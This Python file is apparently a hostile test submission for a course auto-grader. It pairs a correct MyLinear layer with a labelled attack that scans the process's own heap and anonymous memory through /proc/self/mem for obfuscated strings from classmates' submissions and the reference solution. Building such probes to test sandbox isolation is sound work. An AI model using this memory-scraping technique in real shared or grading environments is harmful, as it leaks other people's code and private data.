# Hostile: search this process's own memory for a classmate's code or name. The sandbox is forked from
# processes that read every submission of the batch (to hash them) and list the whole class; freed memory
# keeps its bytes. The texts looked for are the reference solution's docstring (the test submits it as
# alice.py), the line the test writes into the attacks it arms, and the path of bob's file in the batch's
# folder of submissions; they are written here shifted by one letter, so that this file's own text does not
# match. Its own MyLinear is correct.
import torch
from torch import nn


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        bound = 1.0 / in_features**0.5
        self.weights = nn.Parameter(torch.empty(in_features, out_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        out = x @ self.weights
        return out if self.bias is None else out + self.bias


# Built in place, one byte at a time, from shifted copies, so that no other object holds the texts looked for:
# the reference's docstring (alice.py), the line that tests/test_hostile.py writes into the armed attacks, and
# bob's path.
SHIFTED = ['Bqqmjft!aay!A!xfjhiut!,!cjbtaa!up!uif!mbtu!ejnfotjpo!pg!aayaa', 'BSNFE!>!Usvf!!$!IPTUJMF`UFTU`BSNFE',
           'tvcnjttjpot0cpc/qz']
WHAT = ["code", "code", "name"]
needles = []
for text in SHIFTED:
    needle = bytearray(len(text))
    for i, c in enumerate(text):
        needle[i] = ord(c) - 1
    needles.append(needle)
buffer = bytearray(1 << 22)
view = memoryview(buffer)
hits = []
try:
    import ctypes
    own = [(a, a + len(b)) for b in (buffer, *needles) for a in [ctypes.addressof(ctypes.c_char.from_buffer(b))]]
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in open("/proc/self/maps").read().splitlines():
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and not fields[5].startswith("[heap")):
                continue  # anonymous memory and the heap only: that is where freed bytes stay
            low, high = (int(x, 16) for x in fields[0].split("-"))
            for address in range(low, high, len(buffer)):
                size = min(len(buffer), high - address)
                try:
                    mem.seek(address)
                    got = mem.readinto(view[:size])
                except OSError:
                    break
                for number, needle in enumerate(needles):
                    at = buffer.find(needle, 0, got)
                    while at >= 0:
                        if not any(a <= address + at < b for a, b in own):
                            hits.append(number)
                        at = buffer.find(needle, at + 1, got)
except OSError as exc:
    print("could not read my own memory:", exc)
for number in sorted(set(hits)):
    print(f"FOUND A CLASSMATE'S {WHAT[number].upper()} in my memory: text {number} at {hits.count(number)} places")
if not hits:
    print("no classmate's code or name in my memory")
